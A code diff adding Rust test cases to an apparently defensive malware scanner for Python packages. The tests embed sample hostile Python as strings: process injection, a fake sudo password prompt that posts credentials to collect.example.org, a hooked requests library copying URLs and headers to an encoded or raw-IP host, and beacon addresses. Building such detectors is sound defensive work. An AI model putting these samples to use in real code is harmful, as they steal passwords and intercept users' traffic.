@@ -743,6 +743,15 @@ fn shellcode_is_executable_memory_then_a_copy_or_a_thread() {
     let inject = "import ctypes\nk = ctypes.windll.kernel32\nk.WriteProcessMemory(h, a, b, n, None)\n\
                   k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";
     assert_eq!(level(inject).map(|l| l.0), Some(Severity::Critical));
+    // A binding library defines one function per API, each named after the
+    // call it makes: no chain. Functions of other names making them are one.
+    let bindings = "import ctypes\nk = ctypes.windll.kernel32\n\
+                    def WriteProcessMemory(h, a, b, n):\n    return k.WriteProcessMemory(h, a, b, n, None)\n\
+                    def CreateRemoteThread(h, a):\n    return k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";
+    assert_eq!(level(bindings), None);
+    let injector =
+        bindings.replace("def CreateRemoteThread(", "def start(").replace("def WriteProcessMemory(", "def put(");
+    assert_eq!(level(&injector).map(|l| l.0), Some(Severity::High), "{injector}");
     // Opcodes written out in the source, run when a caller asks (a CPU
     // feature probe): high, reviewed; decoded bytes stay critical when
     // called, and the same probe at module level runs on import.
@@ -1032,6 +1041,17 @@ fn the_screen_clipboard_or_keys_sent_to_an_address_in_the_code_is_spyware() {
     // A URL template whose host is filled in from elsewhere names no address.
     let template = driver.replace("f'http://127.0.0.1:{port}/json'", "'http://%s:%d/json' % (HOST, port)");
     assert!(verdict(&template).is_none(), "{template}");
+    // A document library reading the clipboard for one command and asking a
+    // text API it names for another, each when its user calls: medium. The
+    // same two in one function, or at load, stay spyware.
+    let library = "import pyperclip as cb\nfrom urllib import request\nclass Doc:\n    \
+                   def paste_macro(self):\n        return cb.paste()\n    \
+                   def lorem(self, n):\n        \
+                   return request.urlopen(request.Request(f'https://api.example.org/v1/lorem?n={n}'))\n";
+    assert_eq!(verdict(library).map(|v| v.0), Some(Severity::Medium), "{library}");
+    let together = "import pyperclip as cb\nfrom urllib import request\ndef sync():\n    c = cb.paste()\n    \
+                    return request.urlopen(request.Request(f'https://api.example.org/v1/lorem?n={len(c)}'))\n";
+    assert_eq!(verdict(together).map(|v| v.0), Some(Severity::High), "{together}");
 }
 
 /// Hidden code is hidden however it was hidden: decrypted (Fernet, AES) as
@@ -3325,5 +3345,67 @@ fn files_another_program_runs_by_itself_written_at_load_are_persistence() {
         "import os\nwith open(os.path.join('app', 'extensions', 'list.txt'), 'w') as f:\n    f.write('x')\n",
     ] {
         assert_eq!(severity_of("pkg/__init__.py", alike, "persistence-autorun"), None, "{alike}");
+    }
+}
+
+/// A password prompt passing itself off as sudo's asks for the system's
+/// password: sent anywhere, it leaves like a credential store's contents
+/// (a fake `[sudo] password for` prompt posting to the author's address).
+/// A tool's own login prompt sending to the service it logs in to stays how
+/// a client authenticates. Written for the test.
+#[test]
+fn a_password_asked_for_with_a_fake_sudo_prompt_and_sent_out_is_exfiltration() {
+    let fake_sudo = "import getpass, requests\ndef main():\n    user = getpass.getuser()\n    \
+                     pw = getpass.getpass('[sudo] password for %s: ' % user)\n    \
+                     requests.post('https://collect.example.org/p', json={'text': '%s:%s' % (user, pw)})\n";
+    assert_eq!(severity_of("sysfix/cli.py", fake_sudo, "exfiltration"), Some(Severity::Critical));
+    let login = "import getpass, requests\ndef login(user):\n    pw = getpass.getpass('Password: ')\n    \
+                 return requests.post('https://api.example.org/login', json={'user': user, 'password': pw})\n";
+    assert!(severity_of("tool/cli.py", login, "exfiltration").is_none_or(|s| s < Severity::High));
+}
+
+/// A network library's request function replaced (`requests.Session.request
+/// = hooked`, or a proxy put in `sys.modules`) in a file that also talks to
+/// a raw IP or an address it decodes: every request the program makes can
+/// be copied to the author (a typosquat wrapping `requests`). The same patch
+/// in instrumentation that reports where its user configured is not this.
+/// Written for the test.
+#[test]
+fn a_request_function_replaced_beside_a_hidden_address_is_interception() {
+    let patched = "import requests, base64, threading\n_orig = requests.Session.request\n\
+                   _H = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw==').decode()\n\
+                   def _hooked(self, method, url, **kw):\n    \
+                   requests.post(_H, json={'url': url, 'headers': dict(kw.get('headers') or {})})\n    \
+                   return _orig(self, method, url, **kw)\n\
+                   requests.Session.request = _hooked\n";
+    let proxy = "import sys, importlib, urllib.request, json\n_real = importlib.import_module('requests')\n\
+                 class _P:\n    def __getattr__(self, n):\n        return getattr(_real, n)\n    \
+                 def post(self, url, *a, **kw):\n        \
+                 urllib.request.urlopen('http://203.0.113.9:8080/c', data=json.dumps({'u': url}).encode())\n        \
+                 return _real.post(url, *a, **kw)\n\
+                 sys.modules['requests'] = _P()\n";
+    let aliased = patched.replace("import requests,", "import requests as rq,").replace("requests.", "rq.");
+    for src in [patched, proxy, &aliased] {
+        assert_eq!(severity_of("requets/__init__.py", src, "request-interception"), Some(Severity::High), "{src}");
+    }
+    let instrumentation = "import os, requests\n_orig = requests.Session.send\n\
+                           def _traced(self, req, **kw):\n    \
+                           requests.post(os.environ['TRACE_URL'], json={'url': req.url})\n    \
+                           return _orig(self, req, **kw)\n\
+                           requests.Session.send = _traced\n";
+    assert_eq!(severity_of("tracing/patch.py", instrumentation, "request-interception"), None);
+}
+
+/// A request to a public DNS resolver's address (`httpx.head("http://1.1.1.1")`)
+/// checks that the internet answers: no author reads what reaches it, so
+/// made while loading it is no beacon. Any other raw IP there still is.
+/// Written for the test.
+#[test]
+fn a_connectivity_check_against_a_public_resolver_is_not_a_beacon() {
+    let probe = "import httpx\ntry:\n    httpx.head('http://1.1.1.1', timeout=3)\n    IPV4 = True\nexcept Exception:\n    IPV4 = False\n";
+    assert_eq!(severity_of("pkg/net.py", probe, "suspicious-callback"), None);
+    for other in ["http://45.61.139.22", "http://1.1.1.10", "http://8.8.4.40:8080"] {
+        let beacon = probe.replace("http://1.1.1.1", other);
+        assert_eq!(severity_of("pkg/net.py", &beacon, "suspicious-callback"), Some(Severity::High), "{other}");
     }
 }
